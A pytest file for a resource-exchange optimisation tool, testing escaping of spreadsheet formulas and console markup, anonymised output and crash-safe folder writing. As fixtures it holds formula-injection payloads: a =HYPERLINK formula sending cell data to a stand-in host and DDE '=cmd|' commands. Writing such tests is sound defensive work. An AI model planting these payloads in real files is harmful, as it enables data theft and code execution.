"""Safe to open, safe to share, safe to run (issue 20): the classes that need more than a command line.

The command-line classes (look-alike ids, markup, ``--set``, folder kinds, links in
result folders, limits, warnings) are cases of the hostile corpus (``tests/hostile``,
``cases_20.py``). Here:

- formulas: every CSV and workbook that any command writes, from inputs whose ids and
  names are spreadsheet formulas, is scanned for a cell that a spreadsheet would run;
  the project's readers give the text back (``check``, ``report``, ``compare``,
  ``explain`` on that result);
- anonymised results of a scenario with links.csv and uncertainty.csv, and the
  declaration of which columns name what;
- data loss: a full disk (a writer raising ENOSPC part way), SIGTERM and SIGKILL while
  a folder is written; the earlier folder's bytes before and after, and no folder left
  that a later run cannot clean;
- console markup in ids through compare, explain and sweep; the front that stops
  solving floors its points already meet.
"""

from __future__ import annotations

import csv
import hashlib
import html
import io
import json
import signal
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

import symbiosis
from conftest import BASE, ROOT, write_scenario
from symbiosis.cli import app
from symbiosis.errors import SettingsError
from symbiosis.io.read.results import read_result
from symbiosis.io.write.folders import Stage, clean_partials
from symbiosis.schema import RECORD_MODELS
from symbiosis.schema.references import COMPANY, PROFILE, REFERENCES, STREAM

runner = CliRunner()
TRIGGERS = tuple("=+-@\t\r\n")

# ---------------------------------------------------------------------------------------- helpers


def _csv(rows: list[list[str]]) -> str:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    return buf.getvalue()


def tree_hash(folder: Path) -> dict[str, str]:
    """Every file below a folder (relative path) and its SHA-256: the folder's bytes."""
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.rglob("*")) if p.is_file()}


def leftovers(parent: Path) -> list[str]:
    """Hidden entries of a folder (staging folders, temporary files), the marker aside."""
    return sorted(p.name for p in parent.iterdir() if p.name.startswith(".") and p.name != ".symbiosis-result.json")


def run_cli(*args: str, patch: str = "", timeout: float = 300) -> subprocess.CompletedProcess[str]:
    """The real command line in a fresh process, after ``patch`` (Python run first, e.g. a writer that fails)."""
    code = "import sys\n" + textwrap.dedent(patch) + "\nfrom symbiosis.cli import main\nsys.argv = ['symbiosis', *sys.argv[1:]]\nmain()\n"
    return subprocess.run([sys.executable, "-c", code, *args], capture_output=True, text=True, timeout=timeout)


# ---------------------------------------------------------------------------------------- formulas

# Ids and names as a partner might submit them (OWASP's examples among them).
HOSTILE = {
    "A": '=HYPERLINK("http://example.invalid/?leak="&A1,"Click for details")',
    "B": "=cmd|' /C calc'!A0",
    "C": "@SUM(1+1)*cmd|' /C calc'!A0",
}
STREAM_IDS = {"cb_a": "+cb_a", "cb_b": "-cb_b", "pk_a": "@pk_a", "pk_c": "=pk_c"}


def formula_scenario(folder: Path) -> Path:
    """BASE with every company id and name, stream id, profile and slot a spreadsheet formula; ranges for a sweep."""
    files = dict(BASE)
    companies = [["id", "name", "sector", "lat", "lon"]]
    for row in csv.reader(io.StringIO(str(BASE["companies.csv"]))):
        if row[0] in HOSTILE:
            companies.append([HOSTILE[row[0]], "=" + row[1] + "()", "@" + row[2], row[3], row[4]])
    files["companies.csv"] = _csv(companies)
    streams = list(csv.reader(io.StringIO(str(BASE["streams.csv"]))))
    for row in streams[1:]:
        row[0] = STREAM_IDS[row[0]]
        row[1] = HOSTILE[row[1]]
        row[8] = {"evening": "=evening", "event": "-event"}.get(row[8], row[8])
    files["streams.csv"] = _csv(streams)
    files["profiles.csv"] = str(BASE["profiles.csv"]).replace("evening,", "=evening,").replace("event,", "-event,").replace(",day,", ",=day,").replace(",night,", ",+night,")
    files["scenario.yaml"] = str(BASE["scenario.yaml"]).replace("name: tiny", "name: '=1+1'").replace("profiles: profiles.csv}", "profiles: profiles.csv, uncertainty: uncertainty.csv}")
    files["uncertainty.csv"] = _csv([["stream", "field", "low", "high", "distribution"], ["+cb_a", "quantity", "40", "60", "uniform"], ["-cb_b", "price_eur_per_unit", "-30", "40", "uniform"]])
    return write_scenario(folder, files)


def runnable_cells(path: Path) -> list[str]:
    """The cells of a CSV file or a workbook that a spreadsheet would run: text starting with = + - @ tab CR LF
    (a number such as -3.5 is a number), and any workbook cell stored as a formula."""
    found = []
    if path.suffix == ".csv":
        for r, row in enumerate(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))), start=1):
            for cell in row:
                if cell.startswith(TRIGGERS):
                    try:
                        float(cell)
                    except ValueError:
                        found.append(f"{path.name} row {r}: {cell!r}")
    elif path.suffix == ".xlsx":
        with zipfile.ZipFile(path) as book:
            for name in book.namelist():
                if name.startswith("xl/worksheets/") and (b"<f>" in book.read(name) or b"<f " in book.read(name)):
                    found.append(f"{path.name} {name}: a formula element")
        from openpyxl import load_workbook

        wb = load_workbook(path)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(TRIGGERS) and not cell.quotePrefix):
                        found.append(f"{path.name} {ws.title}!{cell.coordinate}: {cell.value!r}")
    return found


@pytest.fixture(scope="module")
def formula_outputs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Every command that writes tables, run on the formula scenario."""
    root = tmp_path_factory.mktemp("formulas")
    sc = formula_scenario(root / "scenario")
    outs = {k: root / k for k in ("result", "anon", "sweep", "grid", "front", "alts", "bench", "park", "compared")}
    commands = [
        ["solve", str(sc), "--out", str(outs["result"]), "--xlsx", "--report", "-q"],
        ["solve", str(sc), "--out", str(outs["anon"]), "--anonymise", "--xlsx", "-q"],
        ["sweep", str(sc), "--out", str(outs["sweep"]), "--samples", "4", "--workers", "0", "-q"],
        ["sweep", str(sc), "--out", str(outs["grid"]), "--samples", "2", "--workers", "0", "--grid", "allocation=proportional,shapley", "--no-report", "-q"],
        ["pareto", str(sc), "--out", str(outs["front"]), "--points", "2", "-q"],
        ["alternatives", str(sc), "--out", str(outs["alts"]), "--k", "1", "-q"],
        ["template", str(root / "template.xlsx")],
        ["generate", str(outs["park"]), "--companies", "4"],
        ["intake", str(sc), "--company", HOSTILE["A"], "--out", str(root / "intake.xlsx")],
        ["compare", str(outs["result"]), str(outs["result"]), "--out", str(outs["compared"])],
    ]
    for args in commands:
        res = runner.invoke(app, args)
        assert res.exit_code == 0, (args, res.output)
    import pandas as pd

    from symbiosis.bench.suite import write_tables

    table = pd.DataFrame([{c: 1.0 for c in ("companies", "candidates", "net_savings_eur_per_year", "ratio_to_bound", "mip_gap", "wall_seconds", "build_seconds", "solve_seconds", "peak_memory_mb", "n_exchanges", "n_pools", "precision", "recall", "processes")}
                          | {"instance": HOSTILE["A"], "method": "optimal", "status": "-optimal", "check_ok": True}])
    outs["bench"].mkdir()
    write_tables(table, outs["bench"])
    outs["template"] = root / "template.xlsx"
    outs["intake"] = root / "intake.xlsx"  # the company's name on its sheet 'company' (a workbook sent outside)
    return outs


def test_no_output_cell_is_a_formula(formula_outputs: dict[str, Path]) -> None:
    """Every CSV and workbook written by solve (--xlsx, --report, --anonymise), sweep (with a grid),
    pareto, alternatives, template, generate and the benchmark table: no cell a spreadsheet would run,
    the header included (sweep's samples.csv has a column per stream id)."""
    files = [p for out in formula_outputs.values() for p in ([out] if out.is_file() else out.rglob("*")) if p.suffix in (".csv", ".xlsx")]
    assert len(files) > 40, len(files)
    assert any(p.name == "samples.csv" for p in files) and any(p.name == "results.xlsx" for p in files)
    bad = [cell for p in files for cell in runnable_cells(p)]
    assert not bad, bad[:10]
    # the escape is there: the text is kept, behind an apostrophe
    text = (formula_outputs["result"] / "companies.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in text and "'=cmd|' /C calc'!A0" in text
    header = (formula_outputs["sweep"] / "samples.csv").read_text(encoding="utf-8").splitlines()[0]
    assert "'+cb_a:quantity" in header and "'-cb_b:price_eur_per_unit" in header


def test_negative_numbers_stay_numbers(formula_outputs: dict[str, Path]) -> None:
    """A negative number is written as a number, not text (the price range of -cb_b reaches -30)."""
    samples = list(csv.reader(io.StringIO((formula_outputs["sweep"] / "samples.csv").read_text(encoding="utf-8"))))
    column = samples[0].index("'-cb_b:price_eur_per_unit")
    values = [row[column] for row in samples[1:]]
    assert any(v.startswith("-") for v in values), values
    assert all(float(v) <= 40 for v in values)


def test_workbook_text_cells_stay_text(formula_outputs: dict[str, Path]) -> None:
    from openpyxl import load_workbook

    wb = load_workbook(formula_outputs["result"] / "results.xlsx")
    # rows 1 and 2 of a table sheet are its headers (label with unit, then the CSV's column id); the rows follow
    ids = [c.value for c in wb["companies"]["A"][2:]]
    names = [c.value for c in wb["companies"]["B"][2:]]
    assert sorted(ids) == sorted(HOSTILE.values()) and "=Alpha()" in names  # the text as given, no apostrophe
    for cell in [*wb["companies"]["A"][2:], *wb["companies"]["B"][2:]]:
        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    # the names beside the ids in matches (and the scenario's name on the overview) are text cells too
    m = wb["matches"]
    named = [m.cell(r, c) for r in range(3, m.max_row + 1) for c in range(1, m.max_column + 1) if str(m.cell(2, c).value).endswith("_name")]
    assert named and all(c.data_type == "s" and c.quotePrefix for c in named), [c.value for c in named]


def test_the_readers_give_the_text_back(formula_outputs: dict[str, Path], tmp_path: Path) -> None:
    """check, report, compare and explain read the escaped result; read_result returns the original text."""
    out = formula_outputs["result"]
    files = read_result(out)
    assert set(files.companies["company"]) == set(HOSTILE.values())
    assert set(files.companies["name"]) == {"=Alpha()", "=Beta()", "=Gamma()"}
    assert set(files.matches["supply_stream"]) <= set(STREAM_IDS.values()) | {""}
    assert set(files.flows["slot"]) <= {"=day", "+night", "year"}
    sc = str(out.parent / "scenario")
    checked = runner.invoke(app, ["check", sc, str(out)])
    assert checked.exit_code == 0, checked.output
    assert runner.invoke(app, ["report", str(out)]).exit_code == 0
    page = (out / "report.html").read_text(encoding="utf-8")
    assert html.escape("=Alpha()") in page and "'=Alpha()" not in page
    compared = runner.invoke(app, ["compare", str(out), str(out)])
    assert compared.exit_code == 0 and "matches: 0 lost, 0 gained, 0 changed" in compared.output
    match = files.matches[files.matches["kind"] == "exchange"].iloc[0]
    explained = runner.invoke(app, ["explain", str(out), f"{match.supply_stream}->{match.demand_stream}", "--quick"])
    assert explained.exit_code == 0, explained.output
    assert f"{match.supply_stream}->{match.demand_stream}" in explained.output
    front = json.loads((formula_outputs["front"] / "point_01" / "summary.json").read_text(encoding="utf-8"))
    assert front["scenario"] == "=1+1"
    page = (formula_outputs["alts"] / "report.html").read_text(encoding="utf-8")
    assert html.escape("-cb_b") in page and "&#x27;-cb_b" not in page  # the trade-off page shows the text, not the escape


# ---------------------------------------------------------------------------------------- anonymise

PRIVATE = {
    "scenario.yaml": str(BASE["scenario.yaml"]).replace(
        "profiles: profiles.csv}", "profiles: profiles.csv, links: links.csv, uncertainty: uncertainty.csv, rules: rules.csv, facilities: facilities.csv, permits: permits.csv, progress: progress.csv}"
    ),
    "companies.csv": "id,name,sector,lat,lon\nacme-steel,Acme Steel NV,plant,50.850,4.700\nbakkerij-peeters,Bakkerij Peeters,food,50.855,4.700\ncinema-zuid,Cinema Zuid,hall,50.850,4.706\n",
    "resources.csv": BASE["resources.csv"],
    "streams.csv": (
        "id,company,direction,resource,quantity,price_eur_per_unit,co2_kg_per_unit,temperature_c,profile,min_quantity\n"
        "acme-cardboard,acme-steel,supply,cardboard,50,30,,,,\n"
        "peeters-cardboard,bakkerij-peeters,demand,cardboard,40,20,100,,,\n"
        "acme-parking,acme-steel,supply,parking,30,0,,,acme-evenings,\n"
        "cinema-parking,cinema-zuid,demand,parking,40,500,,,cinema-shows,\n"
        "peeters-parking,bakkerij-peeters,demand,parking,10,300,,,,\n"
    ),
    "profiles.csv": "profile,slot,value\nacme-evenings,day,0\nacme-evenings,night,1\ncinema-shows,day,0.25\ncinema-shows,night,1\n",
    "links.csv": (
        "source,target,resource,distance_km,cost_eur_per_unit,co2_kg_per_unit,fixed_cost_eur_per_year\n"
        "acme-cardboard,peeters-cardboard,,0.9,2,,\n"
        "acme-steel,cinema-zuid,parking,0.5,,,50\n"
        "hub,bakkerij-peeters,,0.7,,,10\n"
    ),
    "uncertainty.csv": "stream,field,low,high,distribution\nacme-cardboard,quantity,40,60,uniform\npeeters-cardboard,price_eur_per_unit,15,25,triangular\n",
    "rules.csv": "rule,source,target\nforbid,acme-parking,peeters-parking\n",
    "facilities.csv": "id,name,resource,lat,lon,capacity,capex_eur,opex_eur_per_year,cost_eur_per_unit,max_distance_km\nhub,Car park,parking,50.851,4.701,60,100000,1000,50,1\n",
    # Contract section 4g: a permit names a company, a progress row a company, a stream or a facility.
    "permits.csv": "company,ewc\nbakkerij-peeters,15 01 01\n",
    "progress.csv": "source,target,stage,since\nacme-cardboard,bakkerij-peeters,agreed,2025-01-01\nhub,peeters-parking,studied,\n",
}


def test_anonymise_with_links_and_uncertainty(tmp_path: Path) -> None:
    """solve --anonymise on a scenario with links, ranges, rules and a facility: accepted, no real id or name
    in any output, and the anonymised result checks against its own scenario.json."""
    folder = write_scenario(tmp_path / "private", PRIVATE)
    sc = symbiosis.load_scenario(folder)
    out = tmp_path / "anon"
    res = runner.invoke(app, ["solve", str(folder), "--out", str(out), "--anonymise", "--xlsx", "--report", "-q"])
    assert res.exit_code == 0, res.output
    secrets = {c.id for c in sc.companies} | {c.name for c in sc.companies} | {s.id for s in sc.streams} | {p.profile for p in sc.profiles}
    for path in sorted(p for p in out.rglob("*") if p.is_file()):
        data = path.read_bytes()
        if path.suffix == ".xlsx":
            data = b"".join(zipfile.ZipFile(path).read(n) for n in zipfile.ZipFile(path).namelist())
        leaked = sorted(s for s in secrets if s.encode() in data)
        assert not leaked, f"{path.name} holds {leaked}"
    snapshot = json.loads((out / "scenario.json").read_text(encoding="utf-8"))
    assert len(snapshot["tables"]["links"]) == 3
    assert {r["source"] for r in snapshot["tables"]["links"]} >= {"hub"}  # facilities are kept
    checked = runner.invoke(app, ["check", str(out / "scenario.json"), str(out)])
    assert checked.exit_code == 0, checked.output
    result = symbiosis.solve(sc)
    anon = result.anonymised()
    assert len(anon.scenario.uncertainty) == 2 and not {u.stream for u in anon.scenario.uncertainty} & secrets
    assert anon.summary.net_savings_eur_per_year == pytest.approx(result.summary.net_savings_eur_per_year)


def test_without_drops_every_row_naming_the_company(tmp_path: Path) -> None:
    """--without uses the same declaration: links, ranges and rules naming the company or its streams go."""
    sc = symbiosis.load_scenario(write_scenario(tmp_path / "private", PRIVATE))
    w = symbiosis.api.without(sc, ["acme-steel"])
    assert sorted(w.dropped) == sorted([
        "rule forbid acme-parking -> peeters-parking",
        "links row acme-cardboard peeters-cardboard",
        "links row acme-steel cinema-zuid",
        "uncertainty row acme-cardboard",
        "progress row acme-cardboard bakkerij-peeters",  # contract section 4g: progress.csv names streams and companies
    ])
    assert [(link.source, link.target) for link in w.scenario.links] == [("hub", "bakkerij-peeters")]


def test_every_declared_reference_is_a_column_and_anonymised(tmp_path: Path) -> None:
    """The declaration (schema.references) names real columns, and an anonymised scenario keeps no real id in any
    of them: the one list drives the anonymisation of every table."""
    for ref in REFERENCES:
        assert ref.column in RECORD_MODELS[ref.table].model_fields, ref
    sc = symbiosis.load_scenario(write_scenario(tmp_path / "private", PRIVATE))
    real = {c.id for c in sc.companies} | {s.id for s in sc.streams} | {p.profile for p in sc.profiles}
    anon = symbiosis.solve(sc).anonymised().scenario
    checked = 0
    for ref in REFERENCES:
        if set(ref.kinds) & {COMPANY, STREAM, PROFILE}:
            values = {getattr(r, ref.column) for r in getattr(anon, ref.table)} - {None}
            assert not values & real, (ref, values & real)
            checked += len(values)
    assert checked > 15


# ---------------------------------------------------------------------------------------- data loss

FAILING_WRITER = """
import errno, os, signal, time, symbiosis.io.write.{module} as m
calls = [0]
real = m.{name}
def failing(*a, **k):
    calls[0] += 1
    if calls[0] == {at}:
        {action}
    return real(*a, **k)
m.{name} = failing
"""


def full_disk(module: str, name: str, at: int) -> str:
    """A patch: the ``at``-th call of a writer fails as on a full disk."""
    return FAILING_WRITER.format(module=module, name=name, at=at, action='raise OSError(errno.ENOSPC, "No space left on device")')


def dies(module: str, name: str, at: int, sig: str) -> str:
    """A patch: the process gets ``sig`` at the ``at``-th call of a writer."""
    return FAILING_WRITER.format(module=module, name=name, at=at, action=f"os.kill(os.getpid(), signal.{sig}); time.sleep(5)")


@pytest.fixture
def earlier(tmp_path: Path) -> tuple[Path, Path]:
    """A scenario and an earlier result of it (with the report)."""
    folder = write_scenario(tmp_path / "s", dict(BASE))
    out = tmp_path / "result"
    assert runner.invoke(app, ["solve", str(folder), "--out", str(out), "--report", "-q"]).exit_code == 0
    return folder, out


@pytest.mark.parametrize(
    ("what", "module", "name", "at"),
    [
        ("solve", "registry", "write_csv", 3),  # the third table of five
        ("report", "report.write", "write_bytes_atomic", 3),  # the third picture
        ("sweep", "sweep", "write_csv", 2),
        ("pareto", "tradeoffs", "write_bytes_atomic", 1),  # the picture of the front
    ],
)
def test_a_full_disk_changes_nothing(earlier: tuple[Path, Path], tmp_path: Path, what: str, module: str, name: str, at: int) -> None:
    """A writer that fails with ENOSPC part way: exit 2 naming the folder and the full disk, the earlier
    folder byte for byte as it was, no staging folder left, and the folder still usable afterwards."""
    folder, out = earlier
    target = {"solve": out, "report": out, "sweep": tmp_path / "swept", "pareto": tmp_path / "front"}[what]
    ok = {
        "solve": ["solve", str(folder), "--out", str(target), "-q"],
        "report": ["report", str(target)],
        "sweep": ["sweep", str(folder), "--out", str(target), "--samples", "2", "--workers", "0", "-q"],
        "pareto": ["pareto", str(folder), "--out", str(target), "--points", "2", "-q"],
    }[what]
    if what in ("sweep", "pareto"):
        assert runner.invoke(app, ok).exit_code == 0  # the earlier folder of that kind
    before = tree_hash(target)
    proc = run_cli(*ok, patch=full_disk(module, name, at))
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert "No space left on device" in proc.stderr and "Traceback" not in proc.stderr and "Internal error" not in proc.stderr
    assert tree_hash(target) == before
    assert leftovers(target.parent) == []
    again = runner.invoke(app, ok)  # neither this command nor solve is stuck on the folder
    assert again.exit_code == 0, again.output


def test_the_report_keeps_the_marker_whole(earlier: tuple[Path, Path]) -> None:
    """After solve --report and report again, the marker lists every file (never itself) with its hash."""
    out = earlier[1]
    for _ in range(2):
        marker = json.loads((out / ".symbiosis-result.json").read_text(encoding="utf-8"))
        on_disk = {p.name for p in out.iterdir()} - {".symbiosis-result.json"}
        assert marker["kind"] == "result" and set(marker["files"]) == on_disk
        for name, entry in marker["files"].items():
            assert entry["sha256"] == hashlib.sha256((out / name).read_bytes()).hexdigest(), name
        assert runner.invoke(app, ["report", str(out)]).exit_code == 0


def test_a_report_elsewhere_is_marked_and_written_whole(earlier: tuple[Path, Path], tmp_path: Path) -> None:
    """report --out into another folder: marked as a report (and replaced next time); a full disk there
    changes nothing; a sweep's folder is not a place for it."""
    out = earlier[1]
    pages = tmp_path / "pages"
    for _ in range(2):
        res = runner.invoke(app, ["report", str(out), "--out", str(pages / "park.html")])
        assert res.exit_code == 0, res.output
    marker = json.loads((pages / ".symbiosis-result.json").read_text(encoding="utf-8"))
    assert marker["kind"] == "report" and set(marker["files"]) == {p.name for p in pages.iterdir()} - {".symbiosis-result.json"}
    before = tree_hash(pages)
    proc = run_cli("report", str(out), "--out", str(pages / "park.html"), patch=full_disk("report.write", "write_bytes_atomic", 2))
    assert proc.returncode == 2 and "No space left on device" in proc.stderr, proc.stderr
    assert tree_hash(pages) == before and leftovers(pages) == []
    swept = tmp_path / "swept"
    assert runner.invoke(app, ["sweep", str(earlier[0]), "--out", str(swept), "--samples", "2", "--workers", "0", "-q"]).exit_code == 0
    res = runner.invoke(app, ["report", str(out), "--out", str(swept / "report.html")])
    assert res.exit_code == 2 and "holds a symbiosis sweep" in res.output, res.output


def test_sigterm_while_writing_is_like_ctrl_c(earlier: tuple[Path, Path]) -> None:
    """SIGTERM in the middle of writing: exit 143, the earlier result as it was, no staging folder left."""
    folder, out = earlier
    before = tree_hash(out)
    proc = run_cli("solve", str(folder), "--out", str(out), "-q", patch=dies("registry", "write_csv", 2, "SIGTERM"))
    assert proc.returncode == 143, proc.stdout + proc.stderr
    assert "Terminated" in proc.stderr and "Traceback" not in proc.stderr
    assert tree_hash(out) == before and leftovers(out.parent) == []


def test_sigkill_while_writing_leaves_the_earlier_result_and_a_folder_the_next_run_cleans(earlier: tuple[Path, Path], tmp_path: Path) -> None:
    """SIGKILL in the middle of writing: the earlier result as it was; the staging folder left behind is
    recognised (unlocked) and removed by the next run, which replaces the result."""
    folder, out = earlier
    before = tree_hash(out)
    proc = run_cli("solve", str(folder), "--out", str(out), "-q", patch=dies("registry", "write_csv", 2, "SIGKILL"))
    assert proc.returncode == -signal.SIGKILL, proc.stdout + proc.stderr
    assert tree_hash(out) == before
    left = leftovers(tmp_path)
    assert len(left) == 1 and left[0].startswith(".result.") and left[0].endswith(".symbiosis-partial"), left
    again = runner.invoke(app, ["solve", str(folder), "--out", str(out), "-q"])
    assert again.exit_code == 0, again.output
    assert leftovers(tmp_path) == []


KILL_BETWEEN_RENAMES = """
import os, signal, symbiosis.io.write.folders as f
f._exchange = lambda a, b: False  # a file system without renameat2's exchange: two renames
real = os.rename
def rename(src, dst, *a, **k):
    real(src, dst, *a, **k)
    if str(dst).endswith("previous"):
        os.kill(os.getpid(), signal.SIGKILL)
os.rename = rename
"""


def test_sigkill_between_the_two_renames_puts_the_earlier_result_back(earlier: tuple[Path, Path], tmp_path: Path) -> None:
    """Where the swap is two renames, a run killed between them has moved the earlier result into its staging
    folder: the next run that writes beside it puts it back whole before anything else."""
    folder, out = earlier
    before = tree_hash(out)
    proc = run_cli("solve", str(folder), "--out", str(out), "-q", patch=KILL_BETWEEN_RENAMES)
    assert proc.returncode == -signal.SIGKILL
    assert not out.exists()
    other = runner.invoke(app, ["solve", str(folder), "--out", str(tmp_path / "other"), "-q"])
    assert other.exit_code == 0, other.output
    assert tree_hash(out) == before
    assert leftovers(tmp_path) == []
    assert runner.invoke(app, ["check", str(folder), str(out)]).exit_code == 0  # whole and usable


def test_a_living_writers_staging_folder_is_left_alone(tmp_path: Path) -> None:
    """Only staging folders whose writer is dead are cleaned (the lock is held while it lives)."""
    stage = Stage(tmp_path / "busy")
    try:
        code = f"from symbiosis.io.write.folders import clean_partials; from pathlib import Path; print(clean_partials(Path({str(tmp_path)!r})))"
        proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
        assert proc.stdout.strip() == "[]", proc.stdout + proc.stderr
        assert stage.root.is_dir()
    finally:
        stage.close()
    assert clean_partials(tmp_path) == [] and not stage.root.exists()


# ---------------------------------------------------------------------------------------- console markup, limits

MARKUP = dict(BASE)
MARKUP["companies.csv"] = str(BASE["companies.csv"]).replace("\nA,", "\n[red]A,").replace("\nB,", "\nB[/],").replace("Gamma", "[bold]Gamma[/bold]")
MARKUP["streams.csv"] = str(BASE["streams.csv"]).replace(",A,", ",[red]A,").replace(",B,", ",B[/],").replace("cb_a,", "[link=x]cb_a,")
MARKUP["scenario.yaml"] = str(BASE["scenario.yaml"]).replace("profiles: profiles.csv}", "profiles: profiles.csv, uncertainty: uncertainty.csv}")
MARKUP["uncertainty.csv"] = "stream,field,low,high,distribution\n[link=x]cb_a,price_eur_per_unit,10,50,uniform\n"


def test_markup_in_ids_is_printed_as_written(tmp_path: Path) -> None:
    """Ids and names with console markup go through solve, compare, explain, sweep and check as written."""
    folder = write_scenario(tmp_path / "s", MARKUP)
    a, b = tmp_path / "a", tmp_path / "b"
    solved = runner.invoke(app, ["solve", str(folder), "--out", str(a)])
    assert solved.exit_code == 0, solved.output
    assert "[red]A" in solved.output and "B[/]" in solved.output
    assert runner.invoke(app, ["solve", str(folder), "--out", str(b), "--without", "[red]A", "-q"]).exit_code == 0
    compared = runner.invoke(app, ["compare", str(a), str(b)])
    assert compared.exit_code == 0, compared.output
    assert "left out in one of them: [red]A" in compared.output and "B[/]" in compared.output
    explained = runner.invoke(app, ["explain", str(a), "[link=x]cb_a->cb_b", "--quick"])
    assert explained.exit_code == 0, explained.output
    assert "[link=x]cb_a->cb_b" in explained.output and "[red]A -> B[/]" in explained.output
    swept = runner.invoke(app, ["sweep", str(folder), "--out", str(tmp_path / "sw"), "--samples", "3", "--workers", "0", "--no-report"])
    assert swept.exit_code == 0, swept.output
    assert "[link=x]cb_a:price_eur_per_unit" in swept.output


def test_terminal_safe_escapes_direction_controls() -> None:
    from symbiosis.cli.base import terminal_safe

    assert terminal_safe("Gamma\u202e\x1b[2J\u200b") == "Gamma\\u202e\\x1b[2J\\u200b"
    assert terminal_safe("Soci\u00e9t\u00e9 [red]A\n") == "Soci\u00e9t\u00e9 [red]A\n"


def test_limits_are_refused_before_anything_is_read(tmp_path: Path) -> None:
    """The API refuses a runaway sweep, front or set of alternatives before loading the scenario (a path that does not exist)."""
    missing = tmp_path / "nowhere"
    with pytest.raises(SettingsError, match=r"1,000,000,001 solves.*--max-solves 1000000001"):
        symbiosis.sweep(missing, 10**9)
    with pytest.raises(SettingsError, match="at most 10,001 points"):
        symbiosis.pareto(missing, points=100_000)
    with pytest.raises(SettingsError, match=r"200,001 solves"):
        symbiosis.alternatives(missing, k=100_000)
    with pytest.raises(SettingsError, match="not an address"):
        symbiosis.solve(missing, scheduler="tcp://127.0.0.1:abc")


def test_a_front_solves_no_floor_its_points_already_meet() -> None:
    """The hand-worked three-point front asked for 50 points: the same three points (tests/pareto_cases/three_points),
    and the evenly spaced floors that a point already meets are not solved again (2 models a floor:
    the 2 ends and the right end's search, 2 floors, and the refinement of 2 pairs)."""
    three = ROOT / "tests" / "pareto_cases" / "three_points"
    front = symbiosis.pareto(three, points=50, max_solves=10_000, method="epsilon")
    assert [(round(p.co2, 6), round(p.net_savings, 6)) for p in front.points] == [(0.0, 950.0), (10.0, 650.0), (20.0, 150.0)]
    assert front.solves <= 20, front.solves  # 17; solving the 50 floors one by one took 109
    # The part-wise method solves each part's front once whatever the number of points; only the
    # combination's MILPs (milliseconds each, one or two a point) grow with the points asked for.
    parts = [symbiosis.pareto(three, points=n, max_solves=10_000, method="parts") for n in (3, 50)]
    assert all([(round(p.co2, 6), round(p.net_savings, 6)) for p in f.points] == [(0.0, 950.0), (10.0, 650.0), (20.0, 150.0)] for f in parts)
    assert 0 <= parts[1].solves - parts[0].solves <= 4, (parts[0].solves, parts[1].solves)


def test_workers_are_at_most_the_cores() -> None:
    from symbiosis.solver.cluster import usable_cores, usable_workers

    cores = usable_cores()
    assert usable_workers(cores) == (cores, None)
    n, note = usable_workers(1000)
    assert n == cores and note is not None and f"this machine has {cores} core(s)" in note
